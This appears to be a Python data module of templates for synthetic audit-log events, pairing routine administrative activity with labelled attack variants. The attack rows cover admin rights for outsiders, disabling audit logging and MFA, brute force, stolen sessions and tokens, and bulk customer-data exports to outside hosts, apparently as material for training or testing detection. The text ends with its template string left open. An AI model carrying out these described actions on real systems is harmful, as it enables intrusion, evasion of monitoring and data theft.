# ruff: noqa: E501
"""What a company's own applications and little-known services audit, a table for each subject: daily work and attacks of the same events.

A row is `event ;; key=value ;; ... ;; > sentence`. The event is words with the verb last; `%NAME%` stands for the wordings of an event, the same for both labels. Keys are those of inhouse.py, which gives
them the names that a product would; a key it does not know keeps its own. The sentence is optional, and `{key}` in it is a value. What tells is who, to whom, how much, from where, which switch.
"""
from __future__ import annotations

import re

from .phrases import phrased
from .table import Scenario, table

_EVENTS = {
    "GRANT": "«role granted|role assigned|member role added|permission granted|group member added|access right changed|user role updated|privilege given|entitlement assigned»",
    "CREATE": "«user created|account created|user invited|member invited|invitation sent|user added|account provisioned|invite accepted»",
    "SET": "«setting changed|config updated|policy changed|option modified|preference saved|system parameter set|security setting updated|configuration value edited»",
    "LOGIN": "«login succeeded|user logged in|signin ok|session opened|logon|user authenticated|login»",
    "DENIED": "«login failed|signin failed|logon refused|authentication failed|bad password|login attempt rejected»",
    "LOCK": "«account locked|user locked|lockout|login disabled|user blocked»",
    "SESSION": "«session checked|session seen|session updated|session resumed|request authorized|token validated|session activity»",
    "TOKEN": "«api token created|token issued|api key generated|access key added|personal token created|credential issued»",
    "TOKENUSED": "«api token used|api call|token authenticated|key used|api request accepted»",
    "EXPORT": "«report exported|data exported|list downloaded|export finished|extract created|download completed|records exported»",
    "READ": "«record viewed|customer opened|document read|record accessed|profile viewed|file downloaded»",
    "DELETE": "«records deleted|object deleted|items removed|project deleted|documents purged|bulk delete finished|entries erased»",
    "BACKUP": "«backup deleted|backup removed|snapshot expired|restore point removed|backup job changed|archive deleted»",
    "LOGPURGE": "«audit log purged|log cleared|history deleted|journal truncated|event log removed|activity log cleaned»",
    "HOOK": "«webhook created|webhook updated|integration added|endpoint registered|connector saved|notification target changed»",
    "MAILRULE": "«mail rule created|forwarding set|inbox rule changed|notification rule saved|copy address added|auto forward updated»",
    "ACTAS": "«impersonation started|user impersonated|login as user|session switched|support session opened|view as user»",
    "RESET": "«password reset|password changed|credential reset|recovery code issued|reset link sent|temporary password set»",
    "MFA": "«mfa reset|mfa device added|second factor changed|otp enrolled|authenticator registered|mfa method updated»",
    "SSO": "«sso certificate changed|saml settings updated|identity provider edited|idp metadata replaced|signing key updated|federation changed»",
    "PLUGIN": "«plugin installed|extension uploaded|module added|plugin updated|addon activated|package deployed»",
    "UPLOAD": "«file uploaded|attachment stored|media added|document uploaded|asset saved»",
    "DEVICE": "«device enrolled|device registered|licence activated|seat assigned|terminal paired|client approved»",
    "APPROVE": "«payment approved|request approved|approval recorded|order released|transfer released|workflow step completed»",
    "LIMIT": "«limit changed|payment limit updated|threshold edited|spending cap set|approval rule changed»",
    "SUPPLIER": "«supplier updated|vendor changed|payee edited|master data changed|creditor saved|bank details updated»",
    "SECRET": "«secret read|vault entry viewed|password revealed|credential retrieved|secret accessed|key material exported»",
    "RULE": "«firewall rule added|network rule saved|acl changed|allowlist updated|access rule created|ip filter edited»",
    "SHARE": "«folder shared|share link created|file shared|sharing changed|document published|access link updated»",
    "CONSENT": "«app consented|oauth app authorized|application approved|integration authorized|third party access granted|app installed»",
    "GLASS": "«emergency account used|break glass login|emergency access opened|firecall checked out|superuser session started»",
    "DNS": "«dns query|name lookup|resolver request|query answered|lookup done|name resolved»",
    "JOB": "«job created|scheduled task saved|script executed|automation updated|macro run|workflow edited|job started|script console used»",
    "VOUCHER": "«voucher redeemed|refund issued|credit booked|points transferred|gift card used|coupon applied|discount granted»",
    "PROFILE": "«profile updated|contact data changed|mail address changed|phone number changed|account details saved|recovery address set»",
    "TENANT": "«tenant opened|customer environment entered|delegated access used|workspace switched|partner session started|organisation accessed»",
    "CONFIG": "«configuration exported|settings dumped|config backup downloaded|environment shown|diagnostics bundle created|support package downloaded»",
    "PRESENCE": "«new device login|unusual login|sign-in checked|login evaluated|risk assessed|login origin recorded»",
    "QUOTA": "«rate limit reached|usage warning|quota exceeded|throttle applied|activity summary|usage counted»",
}

_TEXT = r"""
@@ roles
# inhouse roles given for work
%GRANT% ;; who=«admin» ;; on=«other» ;; role=«viewer|editor|reporter|billing clerk|auditor|planner|approver|case worker|member» ;; ip=«ip2» ;; > {who} gave {on} the role {role}
%GRANT% ;; who=«svc» ;; on=«other» ;; role=«member|reader|«dept» user|employee|«dept» lead» ;; source=«hr import|directory sync|joiner workflow|group rule "«dept»"»
%GRANT% ;; who=«admin» ;; on=«person» ;; role=«administrator|owner|super admin|tenant admin» ;; approved_by=«other» ;; expires=«in 8 hours|in 2 days|end of month» ;; ip=«ip2» ;; > {role} for {on} by {who}, approved by {approved_by}
%GRANT% ;; who=«admin» ;; on=@partner@ ;; role=«viewer|guest|external reader|commenter» ;; project=«word»-«word» ;; expires=in «num:10:90» days
%GRANT% ;; who=«admin» ;; on=«svc» ;; role=«reader|deployer|backup operator|api client» ;; scope=«word» ;; ip=«ip2»
%GRANT% ;; who=«person» ;; on=«person» ;; role=«beta tester|newsletter editor|wiki writer|room booker|viewer» ;; source=self-service catalogue
# inhouse roles taken back and reviewed
%GRANT% ;; who=«admin» ;; on=«other» ;; old=«administrator|owner|super admin» ;; new=«member|viewer|editor» ;; field=role ;; source=«access review|moved to «dept»|leaver»
%GRANT% ;; who=«svc» ;; on=«other» ;; old=«editor|approver|tenant admin» ;; new=none ;; field=role ;; source=«leaver workflow|certification campaign|expired»
%GRANT% ;; who=«person» ;; on=«person» ;; old=«owner|administrator» ;; new=«member|viewer» ;; field=role ;; ip=«ip2» ;; > {who} stepped down from {old} to {new}
%GRANT% ;; who=«person» ;; on=«person» ;; role=«administrator|owner|super admin» ;; result=denied ;; message=you cannot change your own role ;; ip=«ip2»
# inhouse roles raised within a department
%GRANT% ;; who=«admin» ;; on=«other» ;; old=«viewer|member» ;; new=«editor|moderator|approver|planner|project lead» ;; field=role ;; team=«dept» ;; ip=«ip2»
%GRANT% ;; who=«person» ;; on=«other» ;; role=«deputy|delegate|reviewer» ;; team=«dept» ;; expires=«after vacation|in 14 days» ;; > {who} named {on} as {role}
%GRANT% ;; who=«admin» ;; on=«other» ;; old=«operator|support» ;; new=administrator ;; field=role ;; team=platform ;; approved_by=«person»
# inhouse roles of new accounts and for projects
%GRANT% ;; who=«svc» ;; on=@mate@ ;; role=«member|viewer|«dept» user» ;; account_age=«num:1:50» minutes ;; source=«joiner workflow|api» ;; ip=«ip2»
%GRANT% ;; who=«admin» ;; on=«guest|everyone|all users|public» ;; role=«reader of the help pages|viewer of public news|forum reader» ;; ip=«ip2»
%GRANT% ;; who=«admin» ;; on=@outsider@ ;; role=«guest|applicant|external reader» ;; source=«console|api|import» ;; expires=in «num:5:60» days ;; ip=«ip2»
# T1098.003 inhouse full rights for outsiders
%GRANT% ;; who=«user» ;; on=@outsider@ ;; role=«administrator|owner|super admin|tenant admin|full access|root» ;; ip=«pub» ;; > {who} gave {on} the role {role}
%GRANT% ;; who=«svc» ;; on=@outsider@ ;; role=«administrator|owner|org admin» ;; source=«api|console|import» ;; ip=«pub»
%GRANT% ;; who=«user» ;; on=@junk@ ;; role=«super admin|administrator|owner» ;; source=api ;; account_age=«num:1:50» minutes ;; ip=«pub»
%GRANT% ;; who=«user» ;; on=«guest|anonymous|everyone|all users|public|unauthenticated» ;; role=«administrator|owner|editor of all projects|full access» ;; ip=«pub»
%GRANT% ;; who=«user» ;; on=@outsider@ ;; old=«viewer|guest|external reader» ;; new=«owner|super admin|administrator» ;; field=role ;; ip=«pub»
%GRANT% ;; who=«person» ;; on=@outsider@ ;; role=«administrator|owner|super admin» ;; approved_by=«person» ;; message=«urgent|as discussed|temp» ;; ip=«pub»
# T1548 inhouse own role raised
%GRANT% ;; who=«person» ;; on=«person» ;; role=«administrator|owner|super admin|tenant admin» ;; result=success ;; ip=«pub» ;; > {who} gave {on} the role {role}
%GRANT% ;; who=«person» ;; on=«person» ;; old=«viewer|member|guest|employee|support» ;; new=«administrator|owner|super admin|root» ;; field=role ;; source=«profile api|PATCH /users/me|profile form|api» ;; ip=«pub»
%GRANT% ;; who=«svc» ;; on=«svc» ;; role=«owner|global admin|super admin» ;; source=api ;; ip=«pub»
%GRANT% ;; who=«person» ;; on=«person» ;; field=is_admin ;; old=false ;; new=true ;; source=«profile api|mass assignment in PUT /profile|graphql updateMe»
%GRANT% ;; who=«person» ;; on=«person» ;; role=«administrator|owner» ;; team=«dept» ;; approved_by=«person» ;; expires=never ;; ip=«pub»
@@ people
# inhouse staff join and leave
%CREATE% ;; who=«svc» ;; on=@mate@ ;; role=«member|employee|«dept» user» ;; source=«hr import|scim|directory sync» ;; > {who} added {on} as {role}
%CREATE% ;; who=«admin» ;; on=@mate@ ;; role=«viewer|editor|administrator|owner» ;; team=«dept» ;; ip=«ip2»
%CREATE% ;; who=«admin» ;; on=«svc» ;; role=api client ;; purpose=«nightly import|monitoring|«word» sync» ;; ip=«ip2»
%CREATE% ;; who=«svc» ;; count=«num:2:60» ;; role=«student|employee|member» ;; source=«hr import|semester start|acquired company»
# inhouse guests of projects
%CREATE% ;; who=«person» ;; on=@partner@ ;; role=«guest|viewer|commenter|external reader» ;; project=«word»-«word» ;; expires=in «num:7:90» days
%CREATE% ;; who=«user» ;; on=@outsider@ ;; role=«applicant|customer|trial user|guest|viewer» ;; source=«signup form|job portal|shop»
%CREATE% ;; who=«admin» ;; on=@outsider@ ;; role=«guest|viewer|external auditor, read only» ;; approved_by=«other» ;; ip=«ip2» ;; > {who} invited {on} as {role}
%CREATE% ;; who=«person» ;; on=@outsider@ ;; role=«owner|administrator» ;; result=«denied|refused» ;; message=domain is not on the list of partners
# inhouse accounts from forms and tests
%CREATE% ;; who=«user» ;; on=@partner@ ;; role=«guest|viewer» ;; result=accepted ;; accepted_after=«num:90:90000» seconds ;; mfa=required ;; ip=«ip2»
%CREATE% ;; who=«admin» ;; on=«support|sync|scan»«num:1:9» ;; role=«reader|api client» ;; hidden=true ;; mail=@mate@ ;; approved_by=«other» ;; ip=«ip2»
%CREATE% ;; who=«anonymous|guest|-» ;; on=@outsider@ ;; role=«customer|newsletter reader|trial user» ;; source=«signup form|register api» ;; mfa=not required
# T1136.003 inhouse strangers invited as owners
%CREATE% ;; who=«user» ;; on=@outsider@ ;; role=«owner|administrator|super admin|tenant admin» ;; project=«all|*|production|«word»-«word»» ;; ip=«pub» ;; > {who} invited {on} as {role}
%CREATE% ;; who=«user» ;; on=@outsider@ ;; role=«billing owner|organisation owner|administrator» ;; result=accepted ;; accepted_after=«num:5:90» seconds ;; ip=«pub»
%CREATE% ;; who=«svc» ;; on=@junk@ ;; role=«administrator|owner|super admin» ;; source=api ;; mfa=not required ;; ip=«pub»
%CREATE% ;; who=«anonymous|guest|unknown|-» ;; on=@junk@ ;; role=«administrator|admin|owner» ;; source=«setup wizard|register api|installer» ;; ip=«pub»
%CREATE% ;; who=«user» ;; on=«support|helpdesk|backup|sync|system»«num:1:9» ;; role=«administrator|owner» ;; hidden=true ;; mail=@outsider@ ;; ip=«pub»
%CREATE% ;; who=«user» ;; on=@outsider@ ;; role=«owner|super admin» ;; team=all ;; expires=never ;; message=«temp|test|-» ;; ip=«pub»
%CREATE% ;; who=«user» ;; count=«num:3:20» ;; role=administrator ;; mail=@outsider@ ;; purpose=none ;; ip=«pub»
@@ switches
# inhouse switches flipped in maintenance
%SET% ;; who=«admin» ;; field=«audit logging|access log|log forwarding|alert mail|intrusion alerts» ;; old=on ;; new=off ;; environment=«test|staging|sandbox» ;; window=«maintenance|release|load test» ;; ip=«ip2»
%SET% ;; who=«admin» ;; field=«audit logging|log forwarding|alerts|monitoring» ;; old=off ;; new=on ;; window=«maintenance over|release done» ;; ip=«ip2» ;; > {who} turned {field} {new} again
%SET% ;; who=«admin» ;; field=«monitoring|alerts» ;; old=on ;; new=paused for «num:10:60» min ;; window=planned maintenance ;; thing=«linux2» ;; approved_by=«other»
%SET% ;; who=«svc» ;; field=log level ;; old=«debug|info|trace» ;; new=«info|warning|debug» ;; thing=«word»-service
# inhouse settings kept by their owners
%SET% ;; who=«user» ;; field=«language|time zone|theme|notification mail|start page|date format|newsletter» ;; old=«en|Europe/Berlin|dark|daily|off» ;; new=«de|UTC|light|weekly|on»
%SET% ;; who=«admin» ;; field=«session timeout|password min length|upload limit mb|retention days|max login attempts|lockout minutes» ;; old=«num:5:30» ;; new=«num:8:90» ;; ip=«ip2»
%SET% ;; who=«admin» ;; field=«mfa required|sso enforced|audit logging|ip allowlist|strong passwords|sign-in alerts» ;; old=«off|optional|false» ;; new=«on|enforced|true» ;; ip=«ip2» ;; > {field} is now {new} (was {old}), set by {who}
%SET% ;; who=«admin» ;; field=«mfa required|sso enforced|audit logging» ;; old=on ;; new=off ;; result=denied ;; message=«second administrator must confirm|not allowed by organisation policy»
# inhouse exceptions asked for
%SET% ;; who=«admin» ;; field=«mfa required|ip allowlist» ;; old=on ;; new=off ;; thing=«kiosk account|scanner account|training tenant|demo tenant» ;; approved_by=«other» ;; expires=«in 2 days|tonight»
%SET% ;; who=«admin» ;; field=«password policy|mfa grace days|remember device days» ;; old=«num:1:7» ;; new=«num:7:14» ;; thing=group «dept» ;; approved_by=«person»
# inhouse switches of new tenants and by pipelines
%SET% ;; who=«svc» ;; field=«audit retention days|log retention days» ;; old=«num:30:90» ;; new=«num:180:400» ;; source=«pipeline|api» ;; environment=production
%SET% ;; who=«admin» ;; field=«security alerts|alert mail» ;; old=soc@«sitedomain» ;; new=security@«sitedomain» ;; environment=production ;; ip=«ip2»
%SET% ;; who=«admin» ;; field=«mfa required|audit logging» ;; old=off ;; new=on ;; account_age=«num:3:50» minutes ;; thing=new tenant «word»
# T1562.008 inhouse audit and alerts put out
%SET% ;; who=«user» ;; field=«audit logging|audit trail|access log|event recording|siem forwarding|log forwarding» ;; old=«on|enabled|true» ;; new=«off|disabled|false» ;; environment=production ;; ip=«pub» ;; > {who} turned {field} {new}
%SET% ;; who=«user» ;; field=«alert mail|security alerts|sign-in alerts|intrusion alerts» ;; old=«security@«sitedomain»|soc@«sitedomain»|on» ;; new=«none|off|@outsider@» ;; ip=«pub»
%SET% ;; who=«svc» ;; field=«audit retention days|log retention days|history days» ;; old=«num:90:400» ;; new=«0|1» ;; ip=«pub»
%SET% ;; who=«person» ;; field=«audit logging|siem forwarding» ;; old=on ;; new=off ;; account_age=«num:3:50» minutes ;; environment=production
%SET% ;; who=«user» ;; field=excluded from audit ;; old=none ;; new=«all administrators|user «person»|every api call|login events» ;; ip=«pub»
%SET% ;; who=«person» ;; field=«audit logging|alerts|siem forwarding» ;; old=on ;; new=off ;; approved_by=«person» ;; expires=never ;; window=none ;; message=«noise|test|-» ;; ip=«pub»
# T1556.006 inhouse second factors and sign-in rules dropped
%SET% ;; who=«user» ;; field=«mfa required|two factor|second factor|sso enforced|device check» ;; old=«on|enforced|true|required» ;; new=«off|optional|false|disabled» ;; thing=«all users|administrators|organisation|production tenant» ;; ip=«pub» ;; > {who} set {field} for {thing} from {old} to {new}
%SET% ;; who=«user» ;; field=«ip allowlist|trusted networks|admin networks» ;; old=@network@ ;; new=«0.0.0.0/0|any|*|«pub»/32» ;; ip=«pub»
%SET% ;; who=«user» ;; field=«max login attempts|lockout after|captcha after» ;; old=«num:3:10» ;; new=«0|unlimited|99999» ;; ip=«pub»
%SET% ;; who=«svc» ;; field=«mfa required|password login for administrators» ;; old=«on|false» ;; new=«off|true» ;; source=api ;; thing=organisation ;; ip=«pub»
%SET% ;; who=«user» ;; field=«mfa required|sso enforced» ;; old=on ;; new=off ;; thing=production tenant ;; result=«done|ok|success» ;; expires=never ;; message=«too slow|temp» ;; ip=«pub»
@@ logins
# inhouse logins of staff
%LOGIN% ;; who=«user» ;; ip=«ip2» ;; method=«password + otp|sso|passkey|smartcard» ;; geo=@near@
%LOGIN% ;; who=«user» ;; ip=«ip2» ;; attempt=«1|2|3» ;; > {who} logged in at try {attempt}
%LOGIN% ;; who=«svc» ;; ip=«ip2» ;; method=«client certificate|api key|kerberos» ;; thing=«word» job
%LOGIN% ;; who=«admin» ;; ip=«ip2» ;; method=password + otp ;; failures_before=«0|1|2» ;; thing=admin console
# inhouse logins mistyped
%DENIED% ;; who=«user» ;; ip=«ip2» ;; attempt=«1|2|3» ;; message=«wrong password|caps lock?|otp expired|password expired» ;; > {who} failed to log in ({message}), try {attempt}
%DENIED% ;; who=«user» ;; ip=«ip2» ;; count=«2|3|4» ;; window=«num:60:900» s ;; outcome_after=success
%DENIED% ;; who=«svc» ;; ip=«ip2» ;; count=«num:5:60» ;; window=«1 h|24 h» ;; message=«password of the job expired|old password in scheduled task|certificate expired» ;; thing=«word» job
%LOCK% ;; who=«user» ;; ip=«ip2» ;; count=«3|5|6» ;; message=«after vacation|new phone still has the old password|wrong password» ;; > {who} locked after {count} tries
%LOCK% ;; who=«user» ;; by=«admin» ;; message=«leaver|long absence|contract ended|on parental leave»
# inhouse first passwords
%LOGIN% ;; who=«admin|setup|installer» ;; ip=«ip2» ;; password_kind=«initial|factory» ;; must_change=true ;; thing=new «word» appliance ;; phase=installation ;; > {who} logged in with the {password_kind} password during {phase}
%LOGIN% ;; who=«user» ;; ip=«ip2» ;; password_kind=initial ;; must_change=true ;; message=first login, password changed
%RESET% ;; who=«admin» ;; on=«admin|root|operator» ;; ip=«ip2» ;; password_kind=factory ;; message=default replaced at handover ;; thing=«word» appliance
# inhouse counts of logins by day
%DENIED% ;; who=«user» ;; count=«2|3|4|5» ;; window=«num:20:600» s ;; ip=«ip2» ;; > {count} failed attempts for {who} in {window}
%LOGIN% ;; who=«user» ;; ip=«ip2» ;; failures_before=«1|2|3» ;; window=«num:20:900» s ;; method=password ;; > {who} logged in after {failures_before} failures
%QUOTA% ;; thing=«login|/login|auth api» ;; count=«num:300:4000» ;; window=«5 min|1 h» ;; message=«monday morning|all staff after outage|load test» ;; accounts=«num:200:3000» ;; failed=«num:2:30» ;; ip=«ip2»
%LOGIN% ;; who=«admin|operator|service» ;; ip=«ip2» ;; password_kind=personal ;; installed=«num:3:900» days ago ;; thing=«word» appliance ;; phase=production
%LOCK% ;; who=«user» ;; count=5 ;; ip=«ip2» ;; locked_before_today=«0|1|2» ;; distinct_users_from_ip=1
# T1110 inhouse one account tried and tried
%DENIED% ;; who=«user» ;; ip=«pub» ;; count=«num:40:9000» ;; window=«num:10:300» s ;; > {count} failed attempts for {who} in {window}
%DENIED% ;; who=«admin» ;; ip=«pub» ;; attempt=«num:25:900» ;; message=«wrong password|bad otp|invalid credentials» ;; geo=@elsewhere@
%LOGIN% ;; who=«user» ;; ip=«pub» ;; failures_before=«num:30:900» ;; window=«num:60:900» s ;; method=password ;; > {who} logged in after {failures_before} failures
%QUOTA% ;; thing=«login|/login|signin form|auth api» ;; who=«user» ;; count=«num:300:20000» ;; window=«60 s|5 min» ;; message=too many failed logins ;; ip=«pub»
%DENIED% ;; who=«user» ;; count=«num:50:900» ;; window=«num:60:600» s ;; outcome_after=success ;; ip=«pub» ;; geo=@elsewhere@
%LOCK% ;; who=«user» ;; by=system ;; count=«num:30:900» ;; message=«still being tried|locked for the «num:4:30»th time today» ;; ip=«pub» ;; geo=@elsewhere@
# T1110.003 inhouse many accounts tried
%DENIED% ;; count=«num:60:4000» ;; accounts=«num:40:900» ;; window=«num:1:30» min ;; ip=«pub» ;; message=«unknown user|wrong password» ;; > {count} failed logins on {accounts} accounts in {window}
%LOCK% ;; accounts=«num:8:200» ;; who=«user», «other», «person», «first».«last» ;; window=«num:30:300» s ;; ip=«pub» ;; > {accounts} accounts locked within {window}: {who} and others
%LOCK% ;; who=«user» ;; count=5 ;; ip=«pub» ;; locked_before_today=«num:12:300» accounts from the same address
%DENIED% ;; who=«admin|root|test|guest|info|support|backup|sales|«first»» ;; ip=«pub» ;; attempt=1 ;; message=unknown user ;; distinct_users_from_ip=«num:30:900» ;; geo=@elsewhere@
# T1078.001 inhouse factory passwords still good
%LOGIN% ;; who=«admin|root|operator|sysadmin|service» ;; ip=«pub» ;; password_kind=«default|factory|vendor default|unchanged since installation» ;; phase=production ;; > {who} logged in with the {password_kind} password
%LOGIN% ;; who=«admin|root|maint|installer|guest» ;; ip=«pub» ;; password_kind=factory ;; must_change=skipped ;; thing=«word» appliance ;; installed=«num:100:900» days ago
%LOGIN% ;; who=«admin|postgres|operator|setup» ;; ip=«pub» ;; message=default credentials accepted ;; geo=@elsewhere@ ;; thing=admin console
@@ sessions
# inhouse sessions on the move
%SESSION% ;; who=«user» ;; ip=«ip2» ;; old_ip=«peer» ;; geo=@near@ ;; message=«vpn connected|from home to office|wifi to lan» ;; session=«hex:16» ;; > session of {who} moved from {old_ip} to {ip}: {message}
%SESSION% ;; who=«user» ;; ip=«ip2» ;; old_geo=%HOME ;; geo=%HOME ;; minutes_between=«num:20:400» ;; device=same
%SESSION% ;; who=«user» ;; ip=«peer» ;; old_geo=«DE|FR|GB|US» ;; geo=«ES|NL|CA|IT» ;; hours_between=«num:9:60» ;; device=same ;; message=«trip announced|known traveller|roaming»
# inhouse sessions by day
%SESSION% ;; who=«user» ;; ip=«ip2» ;; message=«idle «num:5:30» min, expired|renewed|second tab|logged out|remembered» ;; session=«hex:16»
%SESSION% ;; who=«user» ;; ip=«ip2» ;; sessions_open=«1|2|3» ;; device=«known|managed laptop|company phone»
%SESSION% ;; who=«svc» ;; ip=«ip2» ;; sessions_open=«num:4:40» ;; device=«server|worker pool» ;; thing=«word» job
# inhouse sessions of travellers and new browsers
%SESSION% ;; who=«user» ;; ip=«ip2» ;; old_agent=«Chrome 12«num:0:4» on Windows|Safari on macOS» ;; new_agent=«Chrome 12«num:5:9» on Windows|Safari on iPhone» ;; message=«browser updated|new login, otp given» ;; session=«hex:16»
%SESSION% ;; who=«admin» ;; ip=«ip2» ;; minutes_between=«num:700:4000» ;; distance_km=«num:300:9000» ;; device=same ;; session=«hex:16»
# T1539 inhouse one session in two places
%SESSION% ;; who=«user» ;; ip=«pub» ;; old_ip=«ip2» ;; old_geo=%HOME ;; geo=@elsewhere@ ;; minutes_between=«num:0:9» ;; session=«hex:16» ;; > session of {who} seen in {old_geo} and {geo} within {minutes_between} minutes
%SESSION% ;; who=«user» ;; ip=«pub» ;; message=same cookie from two countries ;; geo=@elsewhere@ ;; old_geo=%HOME ;; device=new
%SESSION% ;; who=«admin» ;; ip=«pub» ;; minutes_between=«num:1:20» ;; distance_km=«num:1800:12000» ;; device=«changed|unknown» ;; session=«hex:16»
%SESSION% ;; who=«user» ;; ip=«pub» ;; old_agent=«Chrome on Windows|Edge on Windows|Safari on macOS» ;; new_agent=«python-requests|curl|Firefox on Linux|headless Chrome» ;; geo=@elsewhere@ ;; message=no login in between ;; session=«hex:16»
%SESSION% ;; who=«user» ;; ip=«pub» ;; thing=admin console ;; sessions_open=«num:6:40» ;; device=unknown ;; geo=@elsewhere@ ;; hours_between=0
@@ tokens
# inhouse tokens of ones own and of services
%TOKEN% ;; who=«person» ;; on=«person» ;; scope=«read|read reports|own profile|calendar read» ;; expires=in «num:7:90» days ;; ip=«ip2»
%TOKEN% ;; who=«svc» ;; on=«svc» ;; scope=«same as before|deploy|metrics write» ;; message=«scheduled rotation|old one revoked» ;; expires=in «num:30:90» days ;; > {who} rotated its token, {message}
%TOKEN% ;; who=«admin» ;; on=«svc» ;; scope=«read|backup|sync|metrics» ;; approved_by=«other» ;; expires=in 90 days ;; ip=«ip2»
%TOKEN% ;; who=«person» ;; on=«admin» ;; result=denied ;; message=tokens for others are not allowed ;; ip=«ip2»
# inhouse tokens at work
%TOKENUSED% ;; who=«svc» ;; ip=«ip2» ;; count=«num:10:900» ;; window=5 min ;; path=/api/«word»s ;; geo=%HOME
%TOKENUSED% ;; who=«person» ;; owner=«person» ;; ip=«ip2» ;; path=/api/reports ;; geo=%HOME ;; last_used=«num:1:20» h ago
%TOKENUSED% ;; who=«svc» ;; ip=«ip2» ;; path=/api/«word»s ;; result=«refused|denied» ;; message=«expired yesterday|rotated, old token still in job»
%TOKENUSED% ;; who=«person» ;; owner=«person» ;; ip=«peer» ;; geo=@near@ ;; path=/api/«word»s ;; message=new network, owner confirmed by push
# inhouse tokens from pipelines
%TOKEN% ;; who=«admin» ;; on=«svc» ;; scope=«all metrics|all dashboards, read|write own logs» ;; expires=never ;; approved_by=«other» ;; ip=«ip2»
%TOKEN% ;; who=«svc» ;; on=«svc» ;; source=api ;; scope=deploy «word» ;; count=«1|2» ;; window=«num:20:200» s ;; expires=in «num:1:24» hours ;; ip=«ip2»
%TOKENUSED% ;; who=«svc» ;; ip=«ip2» ;; age=«num:2:400» minutes ;; path=/api/«users|export|«word»s» ;; old_geo=%HOME ;; geo=%HOME ;; owner=«svc»
# T1528 inhouse tokens made for others
%TOKEN% ;; who=«person» ;; on=«other» ;; scope=«all|full access|admin|*|write everything» ;; expires=never ;; ip=«pub» ;; > {who} created a token for {on}, scope {scope}, expires {expires}
%TOKEN% ;; who=«user» ;; on=«admin» ;; scope=«admin|full access|*» ;; expires=never ;; source=api ;; ip=«pub»
%TOKEN% ;; who=«svc» ;; on=«admin» ;; scope=«all|impersonate|*» ;; expires=«never|in 10 years» ;; ip=«pub» ;; geo=@elsewhere@
%TOKEN% ;; who=«person» ;; on=«svc» ;; count=«num:5:40» ;; window=«num:20:200» s ;; scope=full access ;; ip=«pub»
%TOKEN% ;; who=«person» ;; on=«admin» ;; scope=«admin|*» ;; approved_by=«person» ;; message=«urgent|old one lost» ;; result=«done|ok|success» ;; expires=never ;; ip=«pub»
# T1550.001 inhouse tokens used from abroad
%TOKENUSED% ;; who=«svc» ;; ip=«pub» ;; geo=@elsewhere@ ;; old_geo=%HOME ;; message=first use outside the network ;; path=/api/«users|customers|secrets|export»
%TOKENUSED% ;; who=«other» ;; owner=«person» ;; ip=«pub» ;; geo=@elsewhere@ ;; path=/api/«admin|users|export» ;; age=«num:2:40» minutes ;; > token of {owner} used by {who} from {geo} on {path}
%TOKENUSED% ;; who=«person» ;; ip=«pub» ;; geo=@elsewhere@ ;; count=«num:4000:90000» ;; window=10 min ;; path=/api/customers ;; last_used=«num:200:900» days ago
@@ exports
# inhouse reports of ones own
%EXPORT% ;; who=«user» ;; thing=«own timesheet|own orders|vacation list|my tickets|monthly report|dashboard "«Word»"» ;; count=«num:1:400» ;; format=«csv|xlsx|pdf» ;; ip=«ip2»
%EXPORT% ;; who=«person» ;; thing=«dept» «report|overview|budget|roster» ;; count=«num:20:3000» ;; format=«xlsx|pdf» ;; ip=«ip2» ;; > {who} exported {thing} ({count} rows, {format})
%EXPORT% ;; who=«person» ;; thing=customers ;; filter=«city = «city»|status = overdue|assigned to me|last order > 1 year» ;; count=«num:3:300» ;; format=csv ;; ip=«ip2»
# inhouse exports on a timetable
%EXPORT% ;; who=«svc» ;; thing=«customers|all orders|invoices|products|members» ;; count=«num:20000:900000» ;; destination=«sftp://files.«sitedomain»/in|data warehouse|s3://«site»-dwh/daily|\\\\«server»\\dwh» ;; schedule=«daily 02:00|weekly|hourly»
%EXPORT% ;; who=«svc» ;; thing=customers ;; count=«num:9000:400000» ;; destination=«newsletter tool|tax adviser, encrypted|crm replica» ;; schedule=monthly ;; approved_by=«other»
%EXPORT% ;; who=«admin» ;; thing=data of customer «num:1000:99999» ;; count=«num:5:400» ;; message=«gdpr request|subject access request» ;; format=zip ;; ip=«ip2»
# inhouse records opened one by one
%READ% ;; who=«user» ;; thing=«customer|case|patient|order» «num:1000:999999» ;; message=«call «num:100:9999»|assigned case|appointment today» ;; ip=«ip2»
%READ% ;; who=«user» ;; count=«num:2:40» ;; thing=cases ;; window=1 h ;; ip=«ip2» ;; usual=«num:10:60»
%READ% ;; who=«svc» ;; count=«num:2000:90000» ;; thing=documents ;; window=1 h ;; message=«search index rebuilt|virus scan|ocr run» ;; usual=«num:2000:90000» ;; ip=«ip2»
# inhouse exports watched
%EXPORT% ;; who=«user» ;; thing=all «holidays|rooms|help pages|my tickets» ;; count=«num:20:3000» ;; filter=none ;; format=csv ;; ip=«ip2»
%EXPORT% ;; who=«user» ;; thing=«photos of the fair|own mailbox|training videos» ;; size=«num:1:40» GB ;; source=interactive ;; ip=«ip2»
%READ% ;; who=«person» ;; thing=«own payslip|contract of «dept»|files of the project «word»» ;; team=«dept» ;; agent=«Chrome|Outlook|mobile app» ;; ip=«ip2»
%EXPORT% ;; who=«user» ;; thing=all customers ;; count=«num:20000:900000» ;; filter=none ;; result=denied ;; message=needs a second person ;; ip=«ip2»
# T1213 inhouse customers carried out
%EXPORT% ;; who=«user» ;; thing=«all customers|customers|complete address book|all patients|all contacts|member list» ;; count=«num:20000:900000» ;; format=«csv|json|sql» ;; filter=none ;; ip=«pub» ;; > {who} exported {thing}, {count} rows as {format}
%EXPORT% ;; who=«user» ;; thing=«customers|salaries|price lists|users with password hashes|card numbers» ;; count=«num:9000:500000» ;; destination=«@outsider@|https://«domain»/up|personal drive|usb» ;; ip=«pub»
%EXPORT% ;; who=«svc» ;; thing=«all orders|customers|invoices» ;; count=«num:20000:900000» ;; schedule=none ;; source=interactive ;; destination=«browser download|https://«domain»/» ;; ip=«pub»
%EXPORT% ;; who=«person» ;; thing=«entire workspace|all projects|all mailboxes|whole tenant» ;; size=«num:5:400» GB ;; message=last working day is «tomorrow|friday» ;; ip=«pub»
%EXPORT% ;; who=«person» ;; thing=«all customers|customers with cards» ;; count=«num:20000:900000» ;; filter=none ;; approved_by=«person» ;; format=zip ;; message=«for home|backup|-» ;; ip=«pub»
# T1530 inhouse records read through
%READ% ;; who=«user» ;; count=«num:1500:40000» ;; thing=«customers|patients|cases|files» ;; window=«num:5:60» min ;; usual=«num:10:60» ;; ip=«pub» ;; > {who} opened {count} {thing} in {window} (usual: {usual})
